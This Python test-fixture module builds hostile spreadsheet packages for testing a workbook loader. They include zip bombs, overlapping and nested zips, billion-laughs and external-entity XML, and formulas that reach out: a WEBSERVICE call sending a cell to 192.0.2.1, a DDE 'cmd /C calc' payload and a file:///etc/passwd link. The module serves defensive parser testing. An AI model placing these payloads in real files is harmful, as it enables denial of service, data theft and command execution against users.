# ruff: noqa: E501  (raw XML reads better in one line)
"""Hostile zip packages: bombs, lies in the directory, XML that reaches out or swells, sheets out of all measure."""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from tests.loaders.workbook.building import MAIN, RELS, STYLES, made, raw_xlsx, zipped
from tests.loaders.workbook.zips import Member, archive, bomb, deflated, text

PLACES = ["海陵区", "高港区", "姜堰区", "兴化市", "靖江市", "泰兴市"]


@dataclass(frozen=True)
class Hostile:
    """A file and what comes of it: `refused` = the kind of issue that says why, "" = it is read, with `values` figures."""

    id: str
    filename: str
    make: Callable[[], bytes]
    refused: str = ""
    values: int = 0


def said(column: str, row: int, words: str) -> str:
    """A cell with a text of its own."""
    return f'<c r="{column}{row}" t="inlineStr"><is><t>{words}</t></is></c>'


def good_rows(extra: str = "") -> str:
    """Six districts with their classes, a title above; `extra` rows below."""
    rows = [f'<row r="1">{said("A", 1, "泰州市2023学年小学班级情况")}</row>']
    rows.append(f'<row r="2">{said("A", 2, "地区")}{said("B", 2, "班级总数（个）")}</row>')
    for at, place in enumerate(PLACES, 3):
        rows.append(f'<row r="{at}">{said("A", at, place)}<c r="B{at}"><v>{400 + at}</v></c></row>')
    return "".join(rows) + extra


def good_sheet(extra: str = "", before: str = "", after: str = "") -> str:
    """The inside of a worksheet with the good rows."""
    return f"{before}<sheetData>{good_rows(extra)}</sheetData>{after}"


def with_parts(**parts: str | bytes) -> bytes:
    """The good workbook with other parts; `__` in a name stands for a slash, `_x` for `.xml`."""
    return raw_xlsx(good_sheet(), extra={name.replace("__", "/").replace("_x", ".xml"): part for name, part in parts.items()})


def relations(*items: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(items)}</Relationships>'


def relation(id: str, kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="{id}" Type="{RELS}/{kind}" Target="{target}"{more}/>'


SHEET_HEAD = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
SHEET_TAIL = b"</sheetData></worksheet>"


def package(*members: Member, **lies: int) -> bytes:
    """A package whose workbook has one sheet; `members` bring the sheet or take a part's place."""
    own = {member.name for member in members}
    parts = [
        text("[Content_Types].xml", "<Types/>"),
        text("_rels/.rels", relations(relation("r", "officeDocument", "xl/workbook.xml"))),
        text("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'),
        text("xl/_rels/workbook.xml.rels", relations(relation("r1", "worksheet", "worksheets/sheet1.xml"), relation("r2", "styles", "styles.xml"), relation("r3", "sharedStrings", "sharedStrings.xml"))),
        text("xl/styles.xml", STYLES),
        text("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{MAIN}">{good_sheet()}</worksheet>'),
    ]  # fmt: skip
    return archive(*(part for part in parts if part.name not in own), *members, **lies)


def sheet_bomb(megabytes: int, said: int | None = None) -> bytes:
    """A sheet that unpacks to so many megabytes of one cell after the other."""
    cells = b'<row><c t="n"><v>1</v></c></row>' * 31_250
    return package(bomb("xl/worksheets/sheet1.xml", SHEET_HEAD, cells, megabytes, SHEET_TAIL, said))


def overlapping() -> bytes:
    """Ten thousand directory entries that share one place in the file (Fifield 2019), a megabyte each."""
    first = Member("xl/0", deflated(bytes(1_000_000)), size=1_000_000, method=8)
    return archive(first, *(Member(f"xl/{n}", b"", size=1_000_000, packed_size=len(first.data), method=8, at=0) for n in range(1, 10_000)))


def nested() -> bytes:
    inner = archive(bomb("a", b"", bytes(1_000_000), 900))
    for depth in range(5):
        inner = zipped({f"{depth}{n}.zip": inner for n in range(3)})
    return inner


def laughs(lines: int = 12) -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, lines))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "哈哈">{entities}]>'


def quadratic() -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY q "{"a" * 100_000}">]><styleSheet xmlns="{MAIN}"><numFmts>{"<numFmt>&q;</numFmt>" * 10_000}</numFmts></styleSheet>'


def outside(address: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "{address}"> %p;<!ENTITY e SYSTEM "{address}">]>'


def book_with(prologue: str, entity: str) -> bytes:
    """The workbook part behind a prologue; its sheet's name is the entity."""
    return raw_xlsx(good_sheet(), workbook=f'{prologue}<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="{entity}" sheetId="1" r:id="rId1"/></sheets></workbook>')


def many_columns(columns: int, rows: int) -> bytes:
    cells = b"<row>" + b"<c><v>1</v></c>" * columns + b"</row>"
    return package(bomb("xl/worksheets/sheet1.xml", SHEET_HEAD, cells, rows, SHEET_TAIL))


def many_rows(rows: int) -> bytes:
    """Rows of two cells each, as a table of a million lines."""
    return package(bomb("xl/worksheets/sheet1.xml", SHEET_HEAD, b"<row><c><v>1</v></c><c><v>2</v></c></row>" * 1024, rows // 1024, SHEET_TAIL))


def strings(megabytes: int) -> bytes:
    """Shared strings of so many megabytes, half of them one long text."""
    items = f"<si><t>{'长' * 300}</t></si>".encode() * 500
    times = megabytes * 1_000_000 // len(items)
    long = b"<si><t>" + b"x" * (megabytes * 500_000) + b"</t></si>"
    part = bomb("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">'.encode() + long, items, times // 2, b"</sst>")
    cells = '<row r="9"><c r="A9" t="s"><v>0</v></c><c r="B9" t="s"><v>1</v></c></row>'
    return package(part, text("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{MAIN}">{good_sheet(cells)}</worksheet>'))


def binary_far() -> bytes:
    """A binary workbook with a cell in its last corner."""
    import io
    import zipfile

    from tests.loaders.workbook.test_old_formats import record, xlsb

    row = record(0, struct.pack("<IIHBBB", 1_048_575, 0, 300, 0, 0, 0) + struct.pack("<I", 0))
    cell = record(5, struct.pack("<II", 16_383, 0) + struct.pack("<d", 1.0))
    with zipfile.ZipFile(io.BytesIO(xlsb())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    end = record(146, b"")
    parts["xl/worksheets/sheet1.bin"] = parts["xl/worksheets/sheet1.bin"].replace(end, row + cell + end, 1)
    return zipped(parts)


def twice() -> bytes:
    """Two members of one name: a reader that takes the first shows other figures than one that takes the last."""
    other = good_sheet().replace("<v>40", "<v>90")
    first = text("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{MAIN}">{other}</worksheet>')
    return package(first, Member(first.name, f'<worksheet xmlns="{MAIN}">{good_sheet()}</worksheet>'.encode()))


REACHING = ['WEBSERVICE("http://192.0.2.1/?"&amp;B3)', "cmd|'/C calc'!A0", "[1]Sheet1!A1", 'HYPERLINK("file:///etc/passwd")', "'\\\\192.0.2.1\\s\\[a.xlsx]b'!A1"]


def reaching() -> bytes:
    cells = "".join(f'<c r="{c}9"><f>{formula}</f><v>{n}</v></c>' for n, (c, formula) in enumerate(zip("CDEFG", REACHING, strict=True)))
    link = relations(relation("rId1", "externalLinkPath", "http://192.0.2.1/a.xlsx", ' TargetMode="External"'))
    return raw_xlsx(
        good_sheet(f'<row r="9">{said("A", 9, "说明")}{cells}</row>'),
        extra={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>', "xl/externalLinks/_rels/externalLink1.xml.rels": link},
    )  # fmt: skip


def cyclic() -> bytes:
    rels = relations(relation("rId1", "worksheet", "workbook.xml"), relation("rId2", "styles", "worksheets/../workbook.xml"))
    return raw_xlsx(good_sheet(), extra={"xl/_rels/workbook.xml.rels": rels})


def many_styles(count: int) -> bytes:
    formats = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="0.0&quot;{n}&quot;"/>' for n in range(count))
    cells = "".join(f'<xf numFmtId="{200 + n}" fontId="0"/>' for n in range(count))
    styles = f'<styleSheet xmlns="{MAIN}"><numFmts>{formats}</numFmts><fonts><font/></fonts><cellXfs>{cells}</cellXfs></styleSheet>'
    return raw_xlsx(good_sheet().replace('<c r="B', '<c s="70000" r="B'), styles=styles)


def macros() -> bytes:
    """As .xlsm: the good table, a macro project beside it."""
    return with_parts(**{"xl__vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub Auto_Open()" * 100})


def good() -> bytes:
    """The table as openpyxl writes it."""
    rows = [["泰州市2023学年小学班级情况"], ["地区", "班级总数（个）"], *([place, 403 + n] for n, place in enumerate(PLACES))]
    return made(lambda sheet: [sheet.append(row) for row in rows])
